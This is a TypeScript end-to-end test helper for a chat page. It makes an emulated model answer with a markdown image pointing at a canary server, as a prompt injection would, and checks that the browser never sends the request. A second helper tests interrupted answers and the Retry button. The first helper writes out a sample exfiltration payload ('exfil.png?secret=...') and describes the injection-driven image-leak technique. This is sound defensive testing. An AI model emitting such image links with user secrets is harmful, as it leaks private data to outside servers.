// Checks both samples' end-to-end tests run on a signed-in chat page, with the Bedrock emulator's control API:
// model output never makes the browser request another server, and an answer cut short stays on screen,
// marked interrupted, with Retry.
import { startCanary } from '@repo/testing';
import type { Page } from 'playwright-core';

async function control(emulatorUrl: string, path: string, body: unknown): Promise<void> {
  const response = await fetch(`${emulatorUrl}/_emulator/${path}`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify(body),
  });
  if (!response.ok) throw new Error(`emulator ${path}: ${response.status} ${await response.text()}`);
}

/** Sends a message from the chat page's composer and waits until the page is no longer busy. */
async function send(page: Page, text: string): Promise<void> {
  await page.getByRole('textbox').fill(text);
  await page.keyboard.press('Enter');
  await page.locator('[aria-busy=true]').waitFor();
  await page.waitForFunction(() => !document.querySelector('[aria-busy=true]'));
}

export interface ImageLeakAttempt {
  /** `<img>` elements in the answer that names an image on another server. */
  imagesInAnswer: number;
  /** Where the answer's image link points (shown, not fetched). */
  linkHref: string | null;
  /** How the browser treated an image the page itself adds: `img-src` when the CSP blocked it. */
  addedImage: string;
  /** What the canary server received: must be nothing. */
  requests: string[];
}

/**
 * The model answers with an image on a canary server (as a prompt injection would); then the page itself
 * tries to load one (as injected script would). Returns what happened; the canary must see no request.
 */
export async function attemptImageLeak(page: Page, emulatorUrl: string): Promise<ImageLeakAttempt> {
  const canary = await startCanary();
  // Requests that reached the network (one the CSP blocks is reported as failed, never as finished).
  const seen: string[] = [];
  const onRequest = (request: { url(): string }) => {
    if (request.url().startsWith(canary.url)) seen.push(request.url());
  };
  page.on('requestfinished', onRequest);
  try {
    await control(emulatorUrl, 'replies', {
      operation: 'converse-stream',
      text: `Here is the chart: ![chart](${canary.url}/exfil.png?secret=kestrel-budget)`,
    });
    await send(page, 'Show me the chart');
    const answer = page.locator('[data-role=assistant]').last();
    const link = answer.locator('a.a0-image-link');
    await link.waitFor();
    const addedImage = await page.evaluate(
      (src) =>
        new Promise<string>((resolve) => {
          document.addEventListener('securitypolicyviolation', (e) => resolve(e.effectiveDirective), { once: true });
          const img = document.createElement('img');
          img.onload = () => resolve('loaded');
          img.onerror = () => setTimeout(() => resolve('error'), 0);
          img.src = src;
          document.body.append(img);
        }),
      `${canary.url}/added.png`,
    );
    return {
      imagesInAnswer: await answer.locator('img').count(),
      linkHref: await link.getAttribute('href'),
      addedImage,
      requests: [...seen, ...canary.requests],
    };
  } finally {
    page.off('requestfinished', onRequest);
    await canary.close();
  }
}

export interface InterruptedAnswer {
  code: string | null;
  interrupted: boolean;
  heading: string | null;
  /** The part of the answer that arrived before the connection broke. */
  partialText: string;
  /** Whether the notice offered a button (Retry), and the answer completed after pressing it. */
  retried: boolean;
}

/** The connection to Bedrock breaks a few events into the answer; then the user presses Retry. */
export async function interruptAnswer(page: Page, emulatorUrl: string): Promise<InterruptedAnswer> {
  await control(emulatorUrl, 'faults', { operation: 'converse-stream', count: 1, disconnect: true, afterEvents: 6 });
  await send(page, 'Tell me a long story about Kyoto');
  const alert = page.locator('[role=alert][data-error-code]');
  await alert.waitFor();
  const result = {
    code: await alert.getAttribute('data-error-code'),
    interrupted: (await alert.getAttribute('data-interrupted')) === 'true',
    heading: await alert.locator('.a0-error-heading').textContent(),
    partialText: (await page.locator('[data-role=assistant]').last().textContent()) ?? '',
    retried: false,
  };
  const retry = alert.getByRole('button');
  if ((await retry.count()) === 1) {
    await retry.click();
    await alert.waitFor({ state: 'detached' });
    await page.waitForFunction(() => !document.querySelector('[aria-busy=true]'));
    result.retried = (await page.locator('[role=alert][data-error-code]').count()) === 0;
  }
  return result;
}
